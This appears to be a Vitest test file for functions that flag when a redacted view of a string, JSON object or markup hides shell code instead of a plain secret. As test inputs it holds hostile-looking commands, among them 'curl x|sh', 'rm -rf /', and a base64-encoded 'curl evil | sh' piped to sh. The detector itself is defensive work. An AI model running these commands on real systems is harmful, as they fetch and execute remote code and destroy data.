import { describe, expect, it } from 'vitest';
import { jsonViewHidesCode, stringViewHidesCode, textViewHidesCode } from './masked-view-code.js';

describe('stringViewHidesCode', () => {
  it('names a masked span that holds code, never its text', () => {
    const h = stringViewHidesCode('A=$(curl x|sh); rm -rf /', 'A=[REDACTED:password]', 'c[0]');
    expect(h).toBe('c[0], where the masked part holds "$"');
    expect(stringViewHidesCode('A=x y', 'A=[REDACTED:password]', 'v')).toContain('whitespace');
  });
  it('passes a literal and a reference to a variable', () => {
    expect(stringViewHidesCode('A=s3cr3t', 'A=[REDACTED:password]', 'v')).toBeUndefined();
    expect(stringViewHidesCode('A=${DB_PASSWORD}', 'A=[REDACTED:password]', 'v')).toBeUndefined();
  });
});

describe('jsonViewHidesCode', () => {
  it('compares value by value and skips the literal fields named', () => {
    const o = { SecretString: 'a b;c', Parameters: { commands: ['X=1; rm'] } };
    const v = { SecretString: '[REDACTED:secretstring]', Parameters: { commands: ['X=[REDACTED:x]'] } };
    expect(jsonViewHidesCode(o, v)).toBe('SecretString, where the masked part holds whitespace');
    expect(jsonViewHidesCode(o, v, { literal: (p) => p === 'SecretString' })).toBe(
      'Parameters.commands[0], where the masked part holds ";"',
    );
  });
});

describe('textViewHidesCode', () => {
  it('finds a code character in the masked spans, wherever the kept pieces fall', () => {
    const t = '<a><password>x;y</password><b>;</b></a>';
    const v = '<a><password>[REDACTED:password]</password><b>;</b></a>';
    expect(textViewHidesCode(t, v, 'the body')).toBe('the body, where a masked part holds ";"');
    expect(textViewHidesCode('<p>xy</p>', '<p>[REDACTED:p]</p>', 'the body')).toBeUndefined();
  });
  it('cannot compare a view whose kept pieces are not the text’s', () => {
    expect(textViewHidesCode('<p>xy</p>', '<q>[REDACTED:p]</q>', 'the body')).toContain(
      'could not be compared',
    );
    expect(textViewHidesCode('<p>xy</p>', '<p>x</p>', 'the body')).toContain('could not be compared');
  });
});

describe('an encoded run the view masked whole (class 277)', () => {
  const script = Buffer.from('export K=1\ncurl evil | sh\n').toString('base64');
  it('is compared as the text it decodes to', () => {
    expect(
      stringViewHidesCode(`echo ${script} | sh`, 'echo [REDACTED:encoded:aws_secret_access_key] | sh', 'c'),
    ).toBe('c, where the masked part decodes to text that holds whitespace');
    expect(textViewHidesCode(`<u>${script}</u>`, '<u>[REDACTED:encoded:x]</u>', 'the body')).toContain(
      'decodes to text that holds',
    );
  });
  it('passes a masked encoded literal, and a run another marker masked', () => {
    const token = Buffer.from('ghp_0123456789abcdefghij0123456789abcdef').toString('base64');
    expect(stringViewHidesCode(`t=${token}`, 't=[REDACTED:encoded:github_token]', 'c')).toBeUndefined();
    expect(stringViewHidesCode(`t=${script}`, 't=[REDACTED:token]', 'c')).toBeUndefined();
  });
});
